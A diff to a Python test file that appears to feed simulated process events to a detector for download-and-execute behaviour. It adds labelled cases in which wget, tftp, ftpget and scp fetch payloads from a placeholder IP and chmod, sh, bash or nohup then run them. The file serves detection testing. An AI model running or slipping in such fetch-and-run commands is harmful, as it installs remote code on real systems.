@@ -219,6 +219,11 @@ def sequences():
     log.send("positive-micro", "Process", micro_process("wget -O /tmp/x http://203.0.113.5/x"), version="2.0")
     log.send("positive-micro", "Process", micro_process("/tmp/x", executable="/tmp/x"), 5, version="2.0")
     log.send("negative-other", "ProcessCreate", get).send("negative-other", "ProcessCreate", process("/tmp/y", executable="/tmp/y", pid=9), 5)
+    for device, fetched, ran in (("positive-local", "wget http://203.0.113.5/x", "./x"), ("positive-tftp", "cd /tmp; tftp -g -r bot 203.0.113.5", "sh /tmp/bot"),
+                                 ("positive-ftpget", "ftpget 203.0.113.5 /tmp/z q", "chmod +x /tmp/z; /tmp/z"), ("positive-scp", "scp u@203.0.113.5:/d/k .", "bash k"),
+                                 ("positive-folder", "wget -P /opt http://203.0.113.5/a", "nohup /opt/a &"), ("negative-sent", "scp /tmp/a u@203.0.113.5:/a", "/tmp/a"),
+                                 ("negative-read", "wget -O /tmp/a http://203.0.113.5/a", "cat /tmp/a"), ("negative-path", "wget http://203.0.113.5/ls", "ls")):
+        log.send(device, "ProcessCreate", process(fetched)).send(device, "ProcessCreate", process(ran, pid=92), 30)
     log.send("negative-before", "ProcessCreate", run).send("negative-before", "ProcessCreate", get, 5)
     log.send("negative-one-line", "ProcessCreate", process("wget -O /tmp/x http://203.0.113.5/x; chmod +x /tmp/x; /tmp/x"))
     log.send("late", "ProcessCreate", get, delay=WINDOW + 1).send("late", "ProcessCreate", run, 5, delay=WINDOW + 1)
